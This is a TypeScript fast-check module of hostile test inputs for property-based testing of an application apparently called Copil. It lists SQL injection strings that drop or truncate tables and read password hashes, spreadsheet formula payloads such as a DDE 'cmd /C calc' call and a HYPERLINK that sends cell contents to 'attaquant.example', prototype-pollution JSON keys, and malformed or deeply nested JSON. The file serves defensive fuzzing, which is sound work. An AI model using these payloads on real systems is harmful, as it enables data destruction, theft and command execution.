import fc from 'fast-check';

/**
 * The hostile values the suite throws at Copil: strings built from the characters that break
 * parsers, databases and spreadsheets, payloads of injection attacks, numbers and dates that only
 * look right, and JSON documents of the wrong shape. Shared by the row, file and API properties.
 */

/** Characters with a history of breaking things, alone or mixed into ordinary text. */
export const NASTY_CHARACTERS = [
  '\u0000', // NUL: refused by PostgreSQL text and jsonb
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  '\u202e', // right-to-left override
  '\u200f', // right-to-left mark
  '\u200b', // zero-width space
  '\ufeff', // byte order mark
  '\ufffe', // non-character
  '\uffff',
  '\u0085', // next line
  '\u2028', // line separator
  '\u2029',
  '\u0301', // combining acute accent
  '\u0336', // combining long stroke
  '\u00a0', // no-break space
  '\u202f', // narrow no-break space (French thousands)
  '\t',
  '\r',
  '\n',
  '\u001b', // escape
  '\u007f',
  '"',
  "'",
  ';',
  ',',
  '\\',
  '%',
  '_',
  '<',
  '>',
  '&',
  '👨‍👩‍👧‍👦', // family: one grapheme, many code points
  '🇫🇷',
  '😀',
  'İ', // changes length when lower-cased
  'ß', // changes length when upper-cased
  'ﬃ',
  '１', // full-width digit
  '٣', // Arabic-Indic digit
  '−', // minus sign, not a hyphen
  'é',
  'e\u0301', // the same letter, decomposed
] as const;

export const SQL_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE dwellings; --",
  '1; select pg_sleep(5)',
  "' UNION SELECT password_hash FROM users --",
  "\\'; truncate audit_events; --",
  '$$; delete from audit_events; $$',
  "%' AND 1=1 --",
  '1 OR 1=1',
  "admin'--",
  "x' || (select current_user) || '",
] as const;

export const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("https://attaquant.example/?q="&A1,"Cliquez")',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("https://attaquant.example","//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
] as const;

export const NUMBER_LIKE = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '0x10',
  '0b101',
  '1_000',
  '−1',
  '1,5',
  ' 12 ',
  '12abc',
  '9007199254740993',
  '00012',
  '1.',
  '.5',
  '1e-7',
  '١٢',
  '１２',
  '12\u00a0000',
  '',
  ' ',
] as const;

export const DATE_LIKE = [
  '2024-02-30',
  '2023-02-29',
  '2024-13-01',
  '0000-00-00',
  '9999-12-31',
  '2024-2-3',
  '30/02/2024',
  '2024-02-29T25:00:00Z',
  '+275760-09-13',
  '2024-06-31',
  '1900-01-00',
  '2024-W01',
  '20240101',
  '2024/01/01',
  '01/1900',
  '2024-01-01\u0000',
] as const;

const nastyCharacter = fc.constantFrom(...NASTY_CHARACTERS);
const ordinaryCharacter = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 });

/** A string of nasty characters mixed with ordinary ones. */
export const nastyText = fc.string({
  unit: fc.oneof({ weight: 2, arbitrary: nastyCharacter }, { weight: 1, arbitrary: ordinaryCharacter }),
  minLength: 1,
  maxLength: 24,
});

/** Long strings: past each column's limit, past a CSV line's limit, past the JSON body limit. */
export const hugeText = fc
  .tuple(fc.constantFrom(301, 4_001, 70_000, 1_100_000), fc.constantFrom('x', 'é', '😀', ';', '"', '\u0301'))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

export const hostileString = fc.oneof(
  { weight: 3, arbitrary: nastyText },
  { weight: 2, arbitrary: fc.constantFrom(...SQL_PAYLOADS, ...FORMULA_PAYLOADS) },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBER_LIKE, ...DATE_LIKE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...SQL_PAYLOADS, ...FORMULA_PAYLOADS, ...DATE_LIKE), nastyText)
      .map(([a, b]) => a + b),
  },
);

/** hostileString, with the occasional very long one (kept rare: they are slow to send). */
export const hostileStringOrHuge = fc.oneof(
  { weight: 30, arbitrary: hostileString },
  { weight: 1, arbitrary: hugeText },
);

/** Numbers a JSON body may carry that a form never would. */
export const hostileNumber = fc.oneof(
  fc.constantFrom(
    0,
    -0,
    -1,
    1e308,
    -1e308,
    2 ** 53 + 1,
    0.1 + 0.2,
    1e-7,
    100.5,
    2_147_483_648,
    -2_147_483_649,
    1900,
    2024,
    10_000,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/**
 * A JSON document as an ordered list of entries, so that keys JavaScript objects treat
 * specially (`__proto__`) are sent as ordinary keys, as an attacker's raw JSON would.
 */
export type JsonNode = null | boolean | number | string | JsonNode[] | { entries: [string, JsonNode][] };

export const DANGEROUS_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '',
  ' ',
  '$where',
  'a.b',
  '0',
  'id',
  'role',
  'roles',
  'isAdmin',
] as const;

export function hostileJson(fieldNames: readonly string[] = []): fc.Arbitrary<JsonNode> {
  const key = fc.oneof(
    {
      weight: fieldNames.length > 0 ? 4 : 0,
      arbitrary: fieldNames.length > 0 ? fc.constantFrom(...fieldNames) : fc.constant('x'),
    },
    { weight: 2, arbitrary: fc.constantFrom(...DANGEROUS_KEYS) },
    { weight: 1, arbitrary: nastyText },
  );
  const leaf: fc.Arbitrary<JsonNode> = fc.oneof(
    { weight: 4, arbitrary: hostileStringOrHuge },
    { weight: 2, arbitrary: hostileNumber },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
  );
  const { node } = fc.letrec<{ node: JsonNode }>((tie) => ({
    node: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      leaf,
      fc.array(tie('node'), { maxLength: 4 }),
      fc.array(fc.tuple(key, tie('node')), { maxLength: 6 }).map((entries) => ({ entries })),
    ),
  }));
  return node;
}

/** A body shaped like the route's: its own keys, each given a hostile value (or left out). */
export function hostileObjectFor(fieldNames: readonly string[]): fc.Arbitrary<JsonNode> {
  if (fieldNames.length === 0) return hostileJson();
  const value = hostileJson(fieldNames);
  return fc
    .tuple(
      fc.subarray([...fieldNames], { minLength: 1 }),
      fc.array(value, { minLength: fieldNames.length, maxLength: fieldNames.length }),
      fc.array(fc.tuple(fc.constantFrom(...DANGEROUS_KEYS), value), { maxLength: 2 }),
    )
    .map(([keys, values, extra]) => ({
      entries: [...keys.map((k, i): [string, JsonNode] => [k, values[i]!]), ...extra],
    }));
}

/** Very deep nesting, which recursive code would not survive. */
export const deepJson = fc
  .tuple(fc.constantFrom(1_000, 50_000, 200_000), fc.constantFrom('[', '{"a":'))
  .map(([depth, open]) => {
    const close = open === '[' ? ']' : '}';
    return `${open.repeat(depth)}1${close.repeat(depth)}`;
  });

/** Text that is not a JSON document, or only nearly one. */
export const brokenJson = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '{"a":',
    '[1,2',
    '{"a":1,}',
    "{'a':1}",
    'NaN',
    'undefined',
    '{"a":01}',
    '{"a":"\\x00"}',
    '{"a":"\\ud800"}',
    '\u0000',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"a":1}{"b":2}',
    '\ufeff{}',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

export function serialiseJson(node: JsonNode): string {
  if (node === null || typeof node !== 'object') return JSON.stringify(node);
  if (Array.isArray(node)) return `[${node.map(serialiseJson).join(',')}]`;
  return `{${node.entries.map(([k, v]) => `${JSON.stringify(k)}:${serialiseJson(v)}`).join(',')}}`;
}
